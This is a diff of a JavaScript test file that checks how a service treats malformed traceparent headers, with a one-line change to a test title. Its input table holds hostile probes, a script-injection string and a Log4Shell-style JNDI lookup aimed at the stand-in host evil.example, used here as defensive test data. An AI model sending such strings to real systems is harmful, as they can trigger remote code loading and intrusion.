@@ -162,7 +162,7 @@ describe('one request', () => {
     ['markup', '<script>alert(1)</script>'],
     ['a template', '#{jndi:ldap://evil.example/a}'],
     ['several values', [`00-${'d'.repeat(32)}-${PARENT}-01`, `00-${'e'.repeat(32)}-${PARENT}-01`]],
-  ])('with a traceparent of %s is served, in a trace of its own', async (_, traceparent) => {
+  ])('with a traceparent of %s is served, in a new trace', async (_, traceparent) => {
     for (const call of [xray, collector]) {
       const response = await call('GET', PATH, { token, headers: { traceparent, 'x-request-id': '<b>' } });
       expect(response.status).toBe(404);
